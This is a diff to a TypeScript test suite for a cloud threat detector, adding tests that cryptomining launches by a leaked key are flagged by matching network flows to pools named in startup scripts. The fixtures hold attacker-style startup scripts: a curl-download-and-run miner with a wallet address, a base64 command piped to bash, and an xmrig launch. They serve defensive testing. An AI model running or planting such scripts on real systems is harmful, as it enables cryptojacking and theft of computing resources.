@@ -4,7 +4,11 @@ import type { CloudFacts, CoalEvent, EventAction } from '../model/event.js';
 import type { Finding } from '../model/finding.js';
 import { defaultPolicy, type Policy } from '../model/policy.js';
 import type { Signal, SignalClass, SignalKind, Strength } from '../model/signal.js';
+import { createClassifier } from '../signals/index.js';
+import { loadIntel } from '../signals/intel/store.js';
+import type { Intel } from '../signals/intel/types.js';
 import { signalFor } from '../signals/make.js';
+import { loadRules } from '../signals/sigma/index.js';
 import { createDetector } from './index.js';
 
 const T0 = Date.UTC(2026, 10, 20, 3, 0, 0);
@@ -311,4 +315,117 @@ test("GCP and Azure calls that prepare a launch are part of its story ('just bef
       operation,
     );
   }
+});
+
+// ---- reach from flows alone: the pool a launch's startup script names --------------------------------
+
+async function realClassifier(): Promise<{ classify: (e: CoalEvent, out: Signal[]) => void; intel: Intel }> {
+  const { intel } = await loadIntel([]);
+  return { classify: createClassifier(intel, await loadRules([])), intel };
+}
+
+/** A launch by the leaked key (new region, GPU) whose startup script is `script`, one instance at 10.20.0.10. */
+function scriptedLaunch(script: string): CoalEvent {
+  return call(
+    5 * MIN,
+    {
+      operation: 'RunInstances',
+      region: 'ap-southeast-3',
+      principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
+      instanceType: 'g4dn.xlarge',
+      count: 1,
+      userData: script,
+      instances: [{ id: 'i-0script01', type: 'g4dn.xlarge', privateIps: ['10.20.0.10'] }],
+    },
+    { ip: '203.0.113.77', ua: 'Boto3/1.34.0 Python/3.11' },
+  );
+}
+
+/** Flow-log records (no process) from the instance's address, `minutes` long each. */
+function flowsTo(ip: string, port: number, count: number, minutes: number): CoalEvent[] {
+  return Array.from({ length: count }, (_, i) => {
+    const e = ev(8 * MIN + i * minutes * MIN, 'connect', {
+      source: { ip: '10.20.0.10', port: 40000 + i },
+      destination: { ip, port },
+      network: { direction: 'outbound', transport: 'tcp' },
+      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3' },
+    });
+    e.coalmine.flow = { durationMs: minutes * MIN };
+    return e;
+  });
+}
+
+async function runReal(events: CoalEvent[]): Promise<Finding[]> {
+  const { classify, intel } = await realClassifier();
+  const findings: Finding[] = [];
+  const engine = createDetector({ policy: defaultPolicy(), classify, intel, onFinding: (f) => findings.push(f) });
+  for (const e of [...events].sort((a, b) => a.coalmine.ts - b.coalmine.ts)) engine.push(e);
+  engine.end();
+  return findings;
+}
+
+const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
+
+test("flows alone hold reach when they go where the launch's startup script says its miner connects", async () => {
+  const cases: Array<{ name: string; script: string; to: [string, number]; by: RegExp }> = [
+    {
+      name: 'an unlisted pool address in the miner options',
+      script: `#!/bin/bash\ncurl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x\n/tmp/x -o 198.51.100.7:3333 -u ${WALLET} -k`,
+      to: ['198.51.100.7', 3333],
+      by: /connected to 198\.51\.100\.7:3333, the pool 198\.51\.100\.7:3333 named in the miner options of its launch's startup script/,
+    },
+    {
+      name: 'a Stratum URL by name, decoded from base64 piped to a shell',
+      script: `echo ${Buffer.from('nohup ./sysupdate -o stratum+tcp://gulf.example-pool.net:14444 -u x --donate-level 1 &').toString('base64')} | base64 -d | bash`,
+      to: ['192.0.2.50', 14444],
+      by: /the port of the pool stratum\+tcp:\/\/gulf\.example-pool\.net:14444 named in its launch's startup script/,
+    },
+  ];
+  for (const c of cases) {
+    const findings = await runReal([
+      ...routine(),
+      scriptedLaunch(c.script),
+      ...flowsTo(c.to[0], c.to[1], 1, 1),
+      ...cpu('i-0script01', 7 * MIN, 8, 99),
+    ]);
+    assert.deepEqual(
+      findings.map((f) => [f.analytic, f.severity]),
+      [['AN0744', 'high']],
+      c.name,
+    );
+    const contact = findings[0].evidence.find((e) => e.by === 'engine:launch-named-pool');
+    assert.equal(contact?.strength, 'strong', c.name);
+    assert.match(contact?.explanation ?? '', c.by, c.name);
+  }
+});
+
+test('a flow to another address on the named port, or a denied launch naming a pool, is not pool contact', async () => {
+  const script = `/opt/x -o 198.51.100.7:3333 -u ${WALLET}`;
+  const findings = await runReal([...routine(), scriptedLaunch(script), ...flowsTo('192.0.2.99', 3333, 1, 1)]);
+  assert.ok(!findings.some((f) => f.evidence.some((e) => e.by === 'engine:launch-named-pool')));
+});
+
+test('a held or reopened mining-port flow is medium pool contact only when the launch runs a miner', async () => {
+  // the miner reads its pool from a config file: the script names no pool, but says xmrig
+  const miner = await runReal([
+    ...routine(),
+    scriptedLaunch('#!/bin/sh\ncd /opt && ./xmrig -c /opt/config.json --donate-level 1'),
+    ...flowsTo('192.0.2.77', 5555, 1, 15),
+  ]);
+  const held = miner.flatMap((f) => f.evidence).find((e) => e.by === 'engine:held-mining-port');
+  assert.equal(held?.strength, 'medium');
+  assert.match(
+    held?.explanation ?? '',
+    /instance i-0script01 held one connection open for 15 min to it and its launch's startup script or task runs a miner/,
+  );
+  assert.ok(miner.some((f) => f.analytic === 'AN0744' && f.legs.includes('reach')));
+
+  // an ordinary bootstrap script: the same long flow stays weak, reach does not hold
+  const plain = await runReal([
+    ...routine(),
+    scriptedLaunch('#!/bin/sh\napt-get update && apt-get install -y nginx && systemctl start nginx'),
+    ...flowsTo('192.0.2.77', 5555, 1, 15),
+  ]);
+  assert.ok(!plain.flatMap((f) => f.evidence).some((e) => e.kind === 'pool-contact'));
+  assert.ok(!plain.some((f) => f.legs.includes('reach')));
 });
